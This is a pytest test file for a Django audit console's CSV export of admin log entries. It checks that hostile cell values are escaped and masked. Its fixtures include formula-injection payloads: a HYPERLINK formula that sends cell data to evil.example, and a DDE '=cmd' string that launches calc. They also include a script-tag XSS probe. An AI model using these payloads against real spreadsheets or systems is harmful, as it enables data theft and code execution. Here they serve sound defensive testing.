"""The compiled LogEntry export writes the same bytes as the generic one (today's exporter:
import-export's fields through StreamingResource.row_renderer, then csv.writer)."""

from __future__ import annotations

import collections
import csv
import datetime
import io
from typing import Any

import pytest
from django.contrib.admin.models import ADDITION, CHANGE, DELETION, LogEntry
from django.contrib.contenttypes.models import ContentType
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditconsole.export import resources
from auditconsole.export.resources import LOGENTRY_COLUMNS, LogEntryResource
from auditconsole.export.streaming import CsvStream
from project.demo.models import Customer, Ticket
from tests.activity.entries import auditconsole_message, log
from tests.export.test_resources import csv_line

WHEN = datetime.datetime(2026, 11, 22, 10, 30, 15, 250000, tzinfo=datetime.UTC)
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1",
    "-5",
    "@SUM(A1)",
    "\tTab",
    "\rReturn",
    'quote " and, comma',
    "line\nbreak\r\nand more",
    "password=hunter2 token: abc123",
    "Zoë, Ærø & 東京 \u2028",
    "<script>alert(1)</script>",
    "",
]


class TodaysExporter(LogEntryResource):
    """A subclass: the generic renderer over named tuples, as every export was written
    before the compiled path."""


def export_bytes(resource: LogEntryResource, queryset: Any) -> bytes:
    return "".join(CsvStream(resource, queryset, batch_rows=4)).encode()


@pytest.fixture
def hostile(support_user: Any, superuser: Any) -> None:
    superuser.username = '=cmd|" /C calc",x'
    superuser.save()
    for n, text in enumerate(HOSTILE_TEXTS):
        log(support_user, Customer, text or None, ADDITION, when=WHEN, name=text, message=text)
        log(
            superuser,
            Ticket,
            n,
            CHANGE,
            name=text or None,
            message=auditconsole_message(
                [{"field": "status", "label": text or "Status", "old": text, "new": "+1"}],
                note=text,
            ),
        )
        log(superuser, None, None, DELETION, when=WHEN, name=text, message=[{"deleted": {}}])
    log(support_user, Ticket, "-1", 9, when=WHEN, name="-1", message='[{"changed": {}}]')


def test_compiled_export_is_byte_identical_to_todays_on_hostile_rows(hostile: None) -> None:
    queryset = LogEntry.objects.order_by("-action_time", "-id")
    compiled = LogEntryResource()
    assert compiled.lines(queryset) is not None
    assert TodaysExporter().lines(queryset) is None
    ours = export_bytes(compiled, queryset)
    assert ours == export_bytes(TodaysExporter(), queryset)
    # The hostile cells really are in it, escaped, and masked (names and changes; an
    # object's id is its key, written as it is).
    rows = list(csv.reader(io.StringIO(ours.decode())))
    assert len(rows) == 1 + 3 * len(HOSTILE_TEXTS) + 1
    assert b"'=HYPERLINK" in ours and b"'=cmd" in ours
    assert not [row for row in rows if "hunter2" in "".join(row[6:])]
    assert any("hunter2" in row[5] for row in rows)


def test_caches_start_again_when_full(hostile: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(resources, "CACHE_SIZE", 2)
    queryset = LogEntry.objects.order_by("id")
    assert export_bytes(LogEntryResource(), queryset) == export_bytes(TodaysExporter(), queryset)


def test_closing_the_lines_closes_the_rows(hostile: None) -> None:
    lines = LogEntryResource().lines(LogEntry.objects.all())
    assert lines is not None
    next(lines)
    lines.close()
    with pytest.raises(StopIteration):
        next(lines)
    plain = resources._ClosingMap(str, iter([1, 2]))
    plain.close()  # nothing to close: no error
    assert list(plain) == ["1", "2"]


TEXT = st.one_of(st.none(), st.sampled_from(HOSTILE_TEXTS), st.text(max_size=20))


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.tuples(
        st.integers(1, 10**9),
        st.one_of(st.just("2026-11-22T10:30:15Z"), st.just(WHEN), st.none()),
        TEXT,
        st.integers(0, 5),
        st.sampled_from([None, "customer", "ticket"]),
        TEXT,
        TEXT,
        TEXT,
    )
)
def test_any_row_gives_the_line_csv_writer_gives(db: None, row: tuple[Any, ...]) -> None:
    models = {"customer": Customer, "ticket": Ticket}
    model = row[4]
    type_id = None if model is None else ContentType.objects.get_for_model(models[model]).pk
    values = (*row[:4], type_id, *row[5:])
    named = collections.namedtuple("Row", LOGENTRY_COLUMNS)(*values)
    resource = LogEntryResource()
    generic = super(LogEntryResource, resource).row_renderer()
    assert resource._line_function()(values) == csv_line(generic(named))
